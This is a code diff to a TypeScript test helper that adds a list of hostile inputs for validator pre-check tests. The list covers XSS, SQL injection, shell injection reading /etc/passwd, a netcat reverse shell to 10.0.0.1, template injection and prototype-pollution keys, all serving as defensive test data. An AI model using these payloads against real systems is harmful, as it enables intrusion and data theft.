@@ -105,3 +105,23 @@ export function generate(r: () => number, depth: number): string {
 
 /** Characters that matter to the grammar, for mutations. */
 export const NOISE = '{}[],:"\\ \t\n\r\u000b\u000c\u00a0\ufeff0123456789-+.eEtrufalsn/x\u0000\u001f\u2028'
+
+/** Hostile lines for the pre-check tests (each must come out not clean, in any place). */
+export const SOUND_HOSTILE = [
+  '<script>alert(1)</script>',
+  '<svg onload=alert(1)>',
+  'javascript:alert(1)',
+  "1' OR '1'='1",
+  '1 OR 1=1',
+  '1 union select password from users',
+  "admin'--",
+  '; cat /etc/passwd',
+  '$(whoami)',
+  '`id`',
+  '| nc -e /bin/sh 10.0.0.1 4444',
+  'sleep 5',
+  '1; waitfor delay 0:0:5',
+  '{{constructor.constructor("alert(1)")()}}',
+  '__proto__',
+  'constructor.prototype.polluted',
+]
